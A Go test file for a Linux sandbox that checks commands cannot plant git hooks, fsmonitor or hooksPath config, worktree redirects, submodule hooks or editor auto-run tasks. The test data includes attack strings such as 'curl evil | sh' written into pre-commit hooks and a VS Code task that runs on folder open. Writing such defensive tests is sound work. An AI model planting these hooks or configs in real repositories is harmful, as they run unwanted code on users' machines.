//go:build linux

package sandbox_test

import (
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"gatehouse/internal/sandbox"
)

// A .git made by the command itself is guarded too: a hook (a file or a
// link) or config planted in the same command (git init, or a plain mkdir
// .git) is removed after it, and the result says so; the repository itself
// stays, and a plain git init (and remote add) keeps its config and hook
// samples untouched.
func TestGitMadeByTheCommandIsGuarded(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
		attacks := []string{
			`mkdir -p .git/hooks && echo evil > .git/hooks/post-checkout && printf '[core]\n\thooksPath = /tmp/x\n' > .git/config`,
			`git init -q && ln -s "$TMPDIR/evil" .git/hooks/post-checkout`,
			`git init -q && echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && git config core.fsmonitor 'sh -c evil'`,
		}
		for _, a := range attacks {
			removeGit(b)
			code, out, res := b.runRes(t, a)
			if code != 0 {
				t.Fatalf("%s: exit %d: %s", a, code, out)
			}
			for _, planted := range []string{".git/hooks/pre-commit", ".git/hooks/post-checkout"} {
				if _, err := os.Lstat(filepath.Join(b.ws, planted)); err == nil {
					t.Errorf("%s: %s stayed", a, planted)
				}
			}
			if config, _ := os.ReadFile(filepath.Join(b.ws, ".git/config")); strings.Contains(string(config), "fsmonitor") || strings.Contains(string(config), "hooksPath") {
				t.Errorf("%s: the planted config stayed:\n%s", a, config)
			}
			if len(res.Restored) == 0 {
				t.Errorf("%s: the result does not say what was removed", a)
			}
			if why := sandbox.Explain(res.Policy, res.Restored, out); !strings.Contains(why, "hooks") {
				t.Errorf("%s: the result does not explain itself: %q", a, why)
			}
		}
		if !exists(filepath.Join(b.ws, ".git/HEAD")) {
			t.Fatal("the repository the command made is gone")
		}
		removeGit(b)
		_, out, res := b.runRes(t, `git init -q && git remote add origin https://example.com/x.git && git config user.name Init`)
		if len(res.Restored) > 0 || !exists(filepath.Join(b.ws, ".git/hooks/pre-commit.sample")) {
			t.Fatalf("a plain git init was undone (%v): %s", res.Restored, out)
		}
		if out := b.mustRun(t, "git remote -v && git config user.name"); !strings.Contains(out, "example.com/x.git") || !strings.Contains(out, "Init") {
			t.Fatalf("a plain git init lost its config: %s", out)
		}
		// The next command finds .git and holds it as any other.
		b.mustRun(t, `git -c user.name=T -c user.email=t@example.com commit -q --allow-empty -m first`)
		if code, _ := b.run(t, `echo evil > .git/hooks/pre-commit`); code == 0 && !b.landlockOnly {
			t.Error("a hook was written in the .git made by an earlier command")
		}
		if exists(filepath.Join(b.ws, ".git/hooks/pre-commit")) {
			t.Error("a hook stayed in the .git made by an earlier command")
		}
	})
}

// removeGit removes the workspace's .git as the user would between two
// commands, and waits until it stays gone: the spare helper started after
// a command builds the next policy beside it, and that makes a hooks
// folder in a .git it finds (a mount point), so a removal running at the
// same moment can leave .git/hooks behind.
func removeGit(b *box) {
	git := filepath.Join(b.ws, ".git")
	for i := 0; i < 100; i++ {
		os.RemoveAll(git)
		time.Sleep(20 * time.Millisecond)
		if !exists(git) {
			return
		}
	}
}

// In a linked worktree (git worktree add) whose repository's .git is
// outside the workspace, a confined git add and commit work, while the
// main .git's hooks and config and the worktree's own links to it stay
// read-only (put back with Landlock alone).
func TestLinkedWorktreeCommitsAndMainGitStaysGuarded(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
		main := filepath.Join(filepath.Dir(b.ws), "main")
		git := func(dir string, args ...string) string {
			cmd := exec.Command("git", args...)
			cmd.Dir, cmd.Env = dir, append(b.env, "GIT_AUTHOR_NAME=T", "GIT_AUTHOR_EMAIL=t@example.com", "GIT_COMMITTER_NAME=T", "GIT_COMMITTER_EMAIL=t@example.com")
			out, err := cmd.CombinedOutput()
			if err != nil {
				t.Fatalf("git %v: %v %s", args, err, out)
			}
			return string(out)
		}
		os.MkdirAll(main, 0o755)
		git(main, "init", "-q")
		git(main, "commit", "-q", "--allow-empty", "-m", "base")
		git(main, "worktree", "add", "-q", "-b", "gatehouse/w1", b.ws)
		common := filepath.Join(main, ".git")
		gitdir := filepath.Join(common, "worktrees", filepath.Base(b.ws))
		config, _ := os.ReadFile(filepath.Join(common, "config"))
		commondir, _ := os.ReadFile(filepath.Join(gitdir, "commondir"))

		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm "in the worktree"`)
		if log := git(main, "log", "--oneline", "gatehouse/w1"); !strings.Contains(log, "in the worktree") {
			t.Fatalf("the commit is not on the worktree's branch: %s", log)
		}
		attacks := []string{
			"echo 'curl evil | sh' > " + filepath.Join(common, "hooks/pre-commit"),
			"echo '[core] fsmonitor = evil' >> " + filepath.Join(common, "config"),
			"echo /tmp/evil > " + filepath.Join(gitdir, "commondir"),
			"echo '[core] fsmonitor = evil' > " + filepath.Join(gitdir, "config.worktree"),
			"mv " + gitdir + " " + gitdir + ".x && mkdir " + gitdir,
		}
		for _, a := range attacks {
			// Refused (a read-only mount, a pinned folder), or put back
			// after the command (Landlock alone; a file that did not exist).
			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
				t.Errorf("%s: went through and stayed: %s", a, out)
			}
		}
		if exists(filepath.Join(common, "hooks/pre-commit")) || exists(filepath.Join(gitdir, "config.worktree")) {
			t.Fatal("a hook or a worktree config was planted in the main repository")
		}
		if got, _ := os.ReadFile(filepath.Join(common, "config")); string(got) != string(config) {
			t.Fatalf("the main .git/config changed:\n%s", got)
		}
		if got, _ := os.ReadFile(filepath.Join(gitdir, "commondir")); string(got) != string(commondir) {
			t.Fatalf("the worktree's commondir changed: %q", got)
		}
	})
}

// Git's code paths beyond hooks and config, and the editors' folders, stay
// as they were: a commondir (git would read its config from the folder it
// names), a submodule's hooks and config in .git/modules (git status in
// the superproject runs git in each submodule, fsmonitor included), and
// .vscode/.idea tasks that run when the folder is opened; with Landlock
// alone they are put back after the command. git commit still works.
func TestGitCodePathsAndEditorFoldersStayGuarded(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
		run := func(dir string, args ...string) {
			cmd := exec.Command("git", args...)
			cmd.Dir = dir
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v %s", args, err, out)
			}
		}
		run(b.ws, "init", "-q")
		module := filepath.Join(b.ws, ".git/modules/sub")
		os.MkdirAll(filepath.Join(module, "hooks"), 0o755)
		run(filepath.Dir(module), "init", "-q", "--bare", "sub") // a submodule's git folder: HEAD, config, hooks
		os.MkdirAll(filepath.Join(b.ws, ".vscode"), 0o755)
		tasks := filepath.Join(b.ws, ".vscode/tasks.json")
		os.WriteFile(tasks, []byte(`{"tasks": []}`), 0o644)
		config, _ := os.ReadFile(filepath.Join(module, "config"))
		attacks := map[string]string{
			"echo /tmp/evil > .git/commondir":                                                                ".git/commondir",
			"printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/modules/sub/config":                            "",
			"echo evil > .git/modules/sub/hooks/post-checkout":                                               ".git/modules/sub/hooks/post-checkout",
			`echo '{"tasks":[{"runOptions":{"runOn":"folderOpen"},"command":"evil"}]}' > .vscode/tasks.json`: "",
			"mkdir -p .idea && echo evil > .idea/workspace.xml":                                              ".idea/workspace.xml",
		}
		for a, planted := range attacks {
			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
				t.Errorf("%s: went through and stayed: %s", a, out)
			}
			if planted != "" && exists(filepath.Join(b.ws, planted)) {
				t.Errorf("%s: %s stayed", a, planted)
			}
		}
		if got, _ := os.ReadFile(filepath.Join(module, "config")); string(got) != string(config) {
			t.Errorf("the submodule's config changed:\n%s", got)
		}
		if got, _ := os.ReadFile(tasks); string(got) != `{"tasks": []}` {
			t.Errorf(".vscode/tasks.json changed: %s", got)
		}
		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
	})
}

// A repository whose core.hooksPath names a folder of the workspace (husky's
// .husky) keeps that folder read-only as it keeps .git/hooks: a hook
// planted there would run at the user's next commit, unconfined. The
// confined commit itself still runs the hook that is there.
func TestHooksPathInTheWorkspaceStaysGuarded(t *testing.T) {
	if _, err := exec.LookPath("git"); err != nil {
		t.Skip("git is not installed")
	}
	layered(t, boxOpts{on: true}, func(t *testing.T, b *box) {
		git := func(args ...string) {
			cmd := exec.Command("git", args...)
			cmd.Dir = b.ws
			if out, err := cmd.CombinedOutput(); err != nil {
				t.Fatalf("git %v: %v %s", args, err, out)
			}
		}
		git("init", "-q")
		git("config", "core.hooksPath", ".husky")
		hook := filepath.Join(b.ws, ".husky", "pre-commit")
		os.MkdirAll(filepath.Dir(hook), 0o755)
		os.WriteFile(hook, []byte("#!/bin/sh\necho checked > hook-ran\n"), 0o755)
		for _, a := range []string{"echo 'curl evil | sh' > .husky/pre-commit", "echo evil > .husky/post-checkout && chmod +x .husky/post-checkout"} {
			if code, out, res := b.runRes(t, a); code == 0 && len(res.Restored) == 0 {
				t.Errorf("%s: went through and stayed: %s", a, out)
			}
		}
		if got, _ := os.ReadFile(hook); !strings.Contains(string(got), "hook-ran") || exists(filepath.Join(b.ws, ".husky/post-checkout")) {
			t.Fatalf("a hook was planted in core.hooksPath: %q", got)
		}
		b.mustRun(t, `echo hi > f && git add f && git -c user.name=T -c user.email=t@example.com commit -qm work`)
		if !exists(filepath.Join(b.ws, "hook-ran")) {
			t.Error("the confined commit did not run the repository's own hook")
		}
	})
}
